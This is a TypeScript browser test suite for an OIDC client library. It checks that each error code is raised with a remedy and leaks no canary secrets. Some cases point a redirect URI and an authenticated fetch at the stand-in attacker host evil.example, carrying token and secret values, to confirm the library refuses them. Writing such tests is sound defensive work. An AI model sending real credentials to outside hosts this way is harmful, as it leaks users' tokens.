import type { BrowserErrorCode } from '@oidc/browser'
import type { Page } from 'playwright-core'
import { describe, expect, it } from 'vitest'
import { lacksChromium, readyOf, type Stage, setStage } from './stage.ts'

/** What no error, and no line in the console, may show. */
const canaries = ['canary-code', 'canary-state', 'canary-token', 'canary-claim']
const query = 'code=canary-code&state=canary-state'

const failureOf = (page: Page, run: string) =>
  page.evaluate(async (code) => {
    const { oidc } = window
    return new Function('oidc', `return (async () => { ${code} })()`)(oidc).then(
      () => ({ code: 'nothing was thrown' }),
      (error: Error & { code?: string }) => ({
        code: error.code,
        message: error.message,
        all: [JSON.stringify(error), String(error), error.stack, JSON.stringify(Object.getOwnPropertyDescriptors(error))].join(),
      }),
    )
  }, run)

const raised: Readonly<Record<BrowserErrorCode, (page: Page, stage: Stage) => Promise<{ code?: string; message?: string; all?: string }>>> =
  {
    BROWSER_OPTION_INVALID: (page) => failureOf(page, `oidc.open({ redirect_uri: 'https://evil.example/cb?${query}' })`),
    BROWSER_INSECURE_CONTEXT: (page) =>
      failureOf(page, `Object.defineProperty(globalThis, 'isSecureContext', { value: false }); oidc.open({ scope: 'canary-claim' })`),
    BROWSER_STORAGE_UNAVAILABLE: (page) =>
      failureOf(
        page,
        `Storage.prototype.setItem = () => { throw new DOMException('canary-token', 'QuotaExceededError') }; await oidc.session.login()`,
      ),
    BROWSER_FRAMED: async (page, { origin }) => {
      await page.setContent(`<iframe src="${origin}/cb?${query.replace('&', '&amp;')}"></iframe>`)
      const ready = await page.waitForFunction(() => (window.frames[0] as Window | undefined)?.oidc?.ready)
      return ready.evaluate((answer) => answer ?? {})
    },
    BROWSER_TRANSACTION_NOT_FOUND: async (page, { origin }) => {
      await page.goto(`${origin}/cb?${query}`)
      return readyOf(page)
    },
    BROWSER_TRANSACTION_USED: async (page, { origin, provider }) => {
      await page.evaluate((name) => sessionStorage.setItem(name, '["canary-state"]'), `oidc:${new URL(provider.issuer).href}|spa:used`)
      await page.goto(`${origin}/cb?${query}`)
      return readyOf(page)
    },
    BROWSER_POPUP_BLOCKED: (page) =>
      failureOf(page, `window.open = () => null; await oidc.session.loginPopup({ login_hint: 'canary-claim' })`),
    BROWSER_POPUP_CLOSED: (page) =>
      failureOf(
        page,
        `const foreign = { closed: false, close() {}, get location() { if (this.closed || this.isThere) throw new DOMException('x', 'SecurityError'); return { replace: () => { this.isThere = true; setTimeout(() => { this.closed = true }, 600) } } } }
       window.open = () => foreign; await oidc.session.loginPopup({ login_hint: 'canary-claim' })`,
      ),
    BROWSER_RESPONSE_TIMEOUT: (page) =>
      failureOf(page, `await oidc.open({ popup: { timeout: 0.2 } }).loginPopup({ login_hint: 'canary-claim' })`),
    BROWSER_SIGNED_OUT: (page) => failureOf(page, `await oidc.session.fetch('/api/me?secret=canary-claim')`),
    BROWSER_SESSION_CHANGED: async (page, stage) => {
      await stage.signIn(page)
      return failureOf(
        page,
        `const answer = oidc.session.fetch('/api/me?secret=canary-claim', { headers: { 'x-secret': 'canary-token' } })
       answer.catch(() => undefined)
       await oidc.session.logout({ local: true }); await answer`,
      )
    },
    BROWSER_ORIGIN_REFUSED: (page) => failureOf(page, `await oidc.session.fetch('https://evil.example/canary-token?secret=canary-claim')`),
    BROWSER_WORKER_FAILED: (page) =>
      failureOf(
        page,
        `const fetch = oidc.fetchThroughWorker(new Worker('/api/none.js'), { endpoints: ['https://as.example/token'] })
       await fetch('https://as.example/token', { method: 'POST', body: 'refresh_token=canary-token' })`,
      ),
  }

describe.skipIf(lacksChromium)('errors [needs chromium]', () => {
  it.each(Object.keys(raised) as BrowserErrorCode[])(
    '%s is raised, its message ends with a remedy, and neither it nor the console shows a secret',
    async (code) => {
      const stage = await setStage()
      const page = await stage.open()
      const lines: string[] = []
      page.on('console', (line) => lines.push(line.text()))
      const error = await raised[code](page, stage)
      expect(error).toMatchObject({ code, message: expect.stringMatching(/[.:] [A-Z][^.]*(?:\.\w[^.]*)*\.$/) })
      const shown = [JSON.stringify(error), ...lines].join('\n')
      for (const canary of canaries) expect(shown).not.toContain(canary)
    },
  )
})
